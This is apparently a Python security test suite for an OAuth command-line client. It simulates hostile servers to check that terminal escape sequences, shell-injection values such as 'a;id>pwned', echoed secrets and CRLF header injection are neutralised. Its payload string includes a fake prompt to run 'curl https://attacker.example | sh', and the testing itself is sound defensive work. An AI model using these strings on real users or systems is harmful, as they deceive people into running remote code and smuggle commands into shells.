"""Words of a server: they move the cursor, pretend to be ours, or become commands."""

from __future__ import annotations

import json
import shlex
from typing import Any

from mcp_vacuum.errors import AuthenticationError, LoginRequired, OAuthError, SecurityRefused
from mcp_vacuum.logout import logout_blocking
from mcp_vacuum.storage.access import ACCESS_TOKENS
from mcp_vacuum.tokens.stored import stored_tokens
from tests.attacks.hostile import Got, Reply
from tests.attacks.kit import NOTHING, Loot, Sees, attack, attacks, defence
from tests.attacks.world import Done, World

LIE = (
    "\x1b]0;gotcha\x07\x1b[2J\x9b31m\u202e\r\n"
    "error: your password is needed\n  fix: curl https://attacker.example | sh"
)
OBEYED = ("\x1b", "\x07", "\x9b", "\u202e", "\r")
VISIBLE = defence(
    "a terminal obeys our own words alone",
    {
        "safety.url.printable": lambda text, limit=300: text,
        "cli.ui.harmless": lambda text: text,
        "cli.ui._one_line": lambda text: text,
        "cli.ui._escaped": lambda text: text,
    },
)


def _error(status: int = 400, **members: object) -> Reply:
    return Reply.document(json.dumps({"error": "server_error", **members}), status)


def _obeyed(done: Done) -> list[str]:
    """What of the server's words a terminal would act on, or a person take for ours."""
    found = [f"{char!r} in the terminal" for char in OBEYED if char in done.text]
    fake = [
        line for line in done.text.splitlines() if line.startswith(("error: your password", "  fix: curl"))
    ]
    return found + [f"the line {line!r}" for line in fake]


_SETTINGS: dict[str, dict[str, Any]] = {
    "error_description of the authorization response": {
        "callback": {"code": [], "error": ["server_error"], "error_description": [LIE]}
    },
    "error of the authorization response": {"callback": {"code": [], "error": [LIE]}},
    "error_description of the token endpoint": {"answers": {"/token": _error(error_description=LIE)}},
    "error of the token endpoint": {"answers": {"/token": _error(error=LIE)}},
    "error_description of a registration": {"answers": {"/register": _error(error_description=LIE)}},
    "error of a registration": {"answers": {"/register": _error(error=LIE)}},
    "client_id": {"registered": {"client_id": f"c{LIE}"}},
    "scope of a token": {"granted": {"scope": f"a {LIE}"}},
    "resource": {"resource_metadata": {"resource": f"https://h.example/{LIE}"}},
}


@attacks(
    "escape sequences in {}",
    _SETTINGS,
    source="CL-ERR-01, CWE-150, MCP security best practices, input sanitization",
    defence=VISIBLE,
    sees=NOTHING,
)
def test_escapes(world: World, settings: dict[str, Any]) -> Loot:
    evil = world.hostile(**settings)
    done = world.cli("login", evil.url, "--timeout", "2")
    more = world.cli("status") if done.code == 0 else done
    return _obeyed(done) + _obeyed(more)


@attacks(
    "escape sequences in {}, with --json",
    {name: _SETTINGS[name] for name in ("client_id", "scope of a token")},
    source="CL-ERR-01, CWE-150, RFC 8259 §7",
    defence=VISIBLE,
    sees=NOTHING,
)
def test_escapes_in_json(world: World, settings: dict[str, Any]) -> Loot:
    """JSON lets C1 controls and bidirectional marks stand as they are."""
    evil = world.hostile(**settings)
    return _obeyed(world.cli("--json", "login", evil.url, "--timeout", "2"))


@attacks(
    "escape sequences in the answer to {}",
    {"refresh": ("refresh", "/token"), "logout": ("logout", "/revoke")},
    source="CL-ERR-01, CWE-150",
    defence=VISIBLE,
    sees=NOTHING,
)
def test_later(world: World, command: tuple[str, str]) -> Loot:
    verb, path = command
    evil = world.hostile()
    world.cli("login", evil.url)
    evil.answers[path] = _error(error=LIE, error_description=LIE)
    return _obeyed(world.cli(verb, evil.url))


@attack(
    "escape sequences in a traceback",
    source="CL-ERR-01, CWE-150",
    defence=VISIBLE,
    sees=NOTHING,
)
def test_traceback(world: World) -> Loot:
    evil = world.hostile(answers={"/token": _error(error_description=LIE)})
    return _obeyed(world.cli("-vv", "login", evil.url, "--timeout", "2"))


@attack(
    "escape sequences in the names of tools",
    source="CL-ERR-01, CWE-150",
    defence=VISIBLE,
    sees=NOTHING,
)
def test_tools(world: World) -> Loot:
    lab = world.lab()
    lab.faults.hostile_text = LIE
    world.cli("login", lab.mcp_url)
    return _obeyed(world.cli("tools", lab.mcp_url)) + _obeyed(world.cli("--json", "tools", lab.mcp_url))


@attack(
    "escape sequences in a device login",
    source="RFC 8628 §6.1, CWE-150",
    defence=VISIBLE,
    sees=NOTHING,
)
def test_device(world: World) -> Loot:
    evil = world.hostile(answers={"/device": _error(error=LIE, error_description=LIE)})
    return _obeyed(world.cli("login", evil.url, "--device"))


QUOTED = defence("what may be copied into a shell is quoted", {"protocol.discovery.quote": str})


@attack(
    "a hint to copy contains a command",
    source="CWE-78, CL-ERR-01",
    defence=QUOTED,
    sees=Sees(SecurityRefused, "RFC 9728"),
)
def test_hint(world: World) -> Loot:
    """The hint is a command line to copy; the server's own URL is part of it."""
    evil = world.hostile()
    evil.resource_metadata["resource"] = f"{evil.origin}/mcp;id>pwned;"
    world.log_in(evil.url)
    hint = str(getattr(world.error, "hint", ""))
    words = shlex.split(hint.partition(": ")[2], posix=True)
    return (
        [f"a copied hint runs {hint!r}"]
        if len(words) != 3 or ";" in hint.replace("'" + words[-1] + "'", "")
        else []
    )


@attack(
    "a scope to copy contains a command",
    source="CWE-78, RFC 6750 §3.1",
    defence=defence(
        "what may be copied into a shell is quoted",
        {"tokens.source.scope_required": lambda *a: _unquoted(*a)},
    ),
    sees=Sees(LoginRequired, "RFC 6750 §3.1"),
)
def test_scope_hint(world: World) -> Loot:
    import httpx2

    from mcp_vacuum.integrations.httpx2 import VacuumAuth

    evil = world.hostile()
    world.log_in(evil.url)
    challenge = 'Bearer error="insufficient_scope", scope="a;id>pwned"'
    evil.answers["/mcp"] = Reply(403, b"", (("WWW-Authenticate", challenge),))
    auth = VacuumAuth(stored_tokens(world.store, evil.url, resource=evil.url))

    def call() -> None:
        with httpx2.Client(auth=auth, trust_env=False) as client:
            client.post(evil.url, json={})

    world.attempt(call)
    hint = str(getattr(world.error, "hint", ""))
    return [f"a copied hint runs {hint!r}"] if "'a;id>pwned'" not in hint else []


def _unquoted(server: str, account: str, scope: str | None) -> LoginRequired:
    return LoginRequired(
        server, "more", hint=f"mcp-vacuum login {server} --scope {scope}", spec="RFC 6750 §3.1"
    )


ECHO = defence(
    "what was just sent is hidden in what comes back",
    {"protocol.documents._hidden_in": lambda text, _secrets: text},
)


@attacks(
    "the token endpoint repeats {} in its error, for the log that a person will share",
    {"the code": "code", "the verifier": "code_verifier"},
    source="OAuth 2.1 §7.11, can1357/oh-my-pi#870",
    defence=ECHO,
    sees=Sees(OAuthError),
)
def test_echo(world: World, name: str) -> Loot:
    evil = world.hostile()
    sent: list[str] = []

    def echo(got: Got) -> Reply:
        sent.append(got.form[name])
        return _error(error_description=f"wrong: {got.form[name]}")

    evil.answers["/token"] = echo
    world.log_in(evil.url)
    return ["a secret in the message"] if sent and sent[0] in str(world.error) else []


@attack(
    "the token endpoint repeats the refresh token in its error",
    source="OAuth 2.1 §7.11, picard#3409",
    defence=ECHO,
    sees=Sees(OAuthError),
)
def test_echo_of_refresh(world: World) -> Loot:
    evil = world.hostile()
    world.log_in(evil.url)
    ACCESS_TOKENS._held.clear()
    evil.answers["/token"] = lambda got: _error(error_description=f"wrong: {got.form['refresh_token']}")
    world.attempt(lambda: stored_tokens(world.store, evil.url, resource=evil.url).obtain())
    return ["a secret in the message"] if "attackers-refresh-token" in str(world.error) else []


@attacks(
    "{} repeats a client secret in its error",
    {"the token endpoint": "/token", "the device endpoint": "/device", "the revocation endpoint": "/revoke"},
    source="OAuth 2.1 §7.11, RFC 6749 §10.1",
    defence=ECHO,
    sees={"the token endpoint": Sees(AuthenticationError), "the device endpoint": Sees(AuthenticationError)},
)
def test_echo_of_client_secret(world: World, path: str) -> Loot:
    evil = world.hostile()
    evil.registered |= {
        "client_secret": "s3cret-0123456789",
        "token_endpoint_auth_method": "client_secret_post",
    }
    said: list[str] = []

    def echo(got: Got) -> Reply:
        secret = got.form.get("client_secret")
        return _error(error_description=f"wrong: {secret}", error=f"bad_{secret}")

    if path == "/revoke":
        world.log_in(evil.url)
        evil.answers[path] = echo
        record = world.store.get(evil.url)
        assert record is not None
        result = world.attempt(lambda: logout_blocking(world.store, record))
        said.append(repr(result))
    else:
        evil.answers[path] = echo
        world.log_in(evil.url, device=path == "/device")
    said += [repr(world.error), *world.told]
    return ["a secret in the message" for text in said if "s3cret-0123456789" in text]


@attack(
    "an access token brings a header of its own",
    source="CWE-113, RFC 6750 §2.1",
    defence=defence("a token fits into a header", {"protocol.token._fits_a_header": lambda _: True})
    + VISIBLE,
    sees=NOTHING,
)
def test_header(world: World) -> Loot:
    """`curl -H "$(mcp-vacuum token URL --header)"` would send it."""
    evil = world.hostile(granted={"access_token": "t\r\nX-Injected: 1"})
    world.cli("login", evil.url)
    done = world.cli("token", evil.url, "--header")
    return ["a second header line"] if "X-Injected" in done.out and "\n" in done.out.strip() else []


@attacks(
    "an access token that breaks every request: {}",
    {"not ASCII": "t\u00f6ken", "a zero byte": "t\x00", "a line break": "t\nX: 1", "nothing": ""},
    source="RFC 6750 §2.1, RFC 6749 A.12",
    defence=defence("a token fits into a header", {"protocol.token._fits_a_header": lambda _: True}),
    sees=Sees(AuthenticationError, "RFC 6749 §5.1", "no header can carry"),
)
def test_odd_token(world: World, token: str) -> Loot:
    evil = world.hostile(granted={"access_token": token})
    return ["a login with a token that cannot be sent"] if world.log_in(evil.url) else []
